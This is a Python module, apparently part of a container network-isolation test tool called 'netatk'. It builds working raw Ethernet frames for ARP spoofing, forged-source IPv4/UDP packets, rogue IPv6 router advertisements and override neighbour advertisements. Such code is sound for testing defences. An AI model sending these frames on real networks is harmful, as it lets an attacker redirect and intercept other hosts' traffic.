"""Raw Ethernet frames for the network attacks (sent from inside a container by `netatk`)."""

from __future__ import annotations

import ipaddress
import struct


def mac(text: str) -> bytes:
    return bytes(int(x, 16) for x in text.split(":"))


def _sum16(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return s


def _csum(data: bytes) -> int:
    return ~_sum16(data) & 0xFFFF


def ether(dst: str, src: str, ethertype: int, payload: bytes) -> bytes:
    return mac(dst) + mac(src) + struct.pack("!H", ethertype) + payload


def arp_reply(src_mac: str, claimed_ip: str) -> bytes:
    """A gratuitous ARP reply: "`claimed_ip` is at `src_mac`"."""
    ip = ipaddress.IPv4Address(claimed_ip).packed
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + mac(src_mac) + ip + b"\xff" * 6 + ip
    return ether("ff:ff:ff:ff:ff:ff", src_mac, 0x0806, body)


def ipv4_udp(dst_mac: str, src_mac: str, src: str, dst: str, dport: int = 9999) -> bytes:
    payload = b"spoofed"
    udp = struct.pack("!HHHH", 40000, dport, 8 + len(payload), 0) + payload
    hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0,
                      ipaddress.IPv4Address(src).packed, ipaddress.IPv4Address(dst).packed)
    hdr = hdr[:10] + struct.pack("!H", _csum(hdr)) + hdr[12:]
    return ether(dst_mac, src_mac, 0x0800, hdr + udp)


def _link_local(src_mac: str) -> bytes:
    m = bytearray(mac(src_mac))
    m[0] ^= 0x02
    return b"\xfe\x80" + b"\0" * 6 + bytes(m[:3]) + b"\xff\xfe" + bytes(m[3:])


def _icmpv6(src_mac: str, dst_ip: str, dst_mac: str, icmp: bytes) -> bytes:
    src = _link_local(src_mac)
    dst = ipaddress.IPv6Address(dst_ip).packed
    pseudo = src + dst + struct.pack("!I3xB", len(icmp), 58)
    icmp = icmp[:2] + struct.pack("!H", _csum(pseudo + icmp)) + icmp[4:]
    ip6 = struct.pack("!IHBB", 6 << 28, len(icmp), 58, 255) + src + dst
    return ether(dst_mac, src_mac, 0x86DD, ip6 + icmp)


def router_advert(src_mac: str, prefix: str = "2001:db8:1::") -> bytes:
    """An IPv6 router advertisement: "I am your default router, use prefix/64"."""
    ra = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    pi = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0) + ipaddress.IPv6Address(prefix).packed
    sll = struct.pack("!BB", 1, 1) + mac(src_mac)
    return _icmpv6(src_mac, "ff02::1", "33:33:00:00:00:01", ra + pi + sll)


def neighbor_advert(src_mac: str, target: str) -> bytes:
    """An unsolicited IPv6 neighbour advertisement (override): "`target` is at `src_mac`"."""
    na = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + ipaddress.IPv6Address(target).packed
    tll = struct.pack("!BB", 2, 1) + mac(src_mac)
    return _icmpv6(src_mac, "ff02::1", "33:33:00:00:00:01", na + tll)
